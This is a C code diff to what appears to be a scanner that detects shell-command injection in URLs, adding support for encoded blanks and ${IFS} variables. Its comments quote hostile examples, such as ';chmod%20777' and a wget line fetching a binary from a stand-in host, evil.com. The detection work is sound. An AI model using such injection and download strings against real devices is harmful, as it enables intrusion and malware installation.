@@ -4630,8 +4630,9 @@ encoded_blank(const char *t, size_t k)
 /* Whether a shell's command follows the ';' at t[e] in a URL's path,
  * as an exploit's download line writes it in a request it encodes:
  * a path run, ";./arm7", ";/tmp/x", or a word and an encoded blank,
- * ";chmod%20777", ";chmod+777" (a path's parameter is a word and '=',
- * "/a;jsessionid=1"). t is NUL-terminated. */
+ * ";chmod%20777", ";chmod+777", an encoded blank first too, ";+chmod+"
+ * (a path's parameter is a word and '=', "/a;jsessionid=1"). t is
+ * NUL-terminated. */
 static int
 shell_after(const struct ioc_scanner *sc, size_t i, size_t e)
 {
@@ -4640,6 +4641,8 @@ shell_after(const struct ioc_scanner *sc, size_t i, size_t e)
 
 	if (memchr(t + i, '?', e - i) != NULL)
 		return 0;	/* a query's own */
+	k += encoded_blank(t, k);
+	e = k - 1;
 	if (t[k] == '/' || (t[k] == '.' && t[k + 1] == '/'))
 		return 1;
 	while (sc->cls[(unsigned char)t[k]] & C_ALNUM)
@@ -4734,6 +4737,13 @@ url_end(struct ioc_scanner *sc, size_t i)
 	    !cjk_char(t, sc->text.len, e)))
 		e++;
 	e = shell_options(sc, i, url_sep_end(sc, i, e));
+	/* a shell's variable: "wget${IFS}http://evil.com/mips${IFS}-O" */
+	for (p = memchr(t + i, '$', e - i); p != NULL; p = memchr(p + 1, '$',
+	    e - (size_t)(p + 1 - t)))
+		if (p[1] == '{' || strncmp(p + 1, "IFS", 3) == 0) {
+			e = (size_t)(p - t);
+			break;
+		}
 	/* a Markdown link's "](": "[http://a/x](http://a/x)" is two */
 	for (p = memchr(t + i, ']', e - i); p != NULL && (size_t)(p - t) + 1 <
 	    e; p = memchr(p + 1, ']', e - (size_t)(p + 1 - t)))
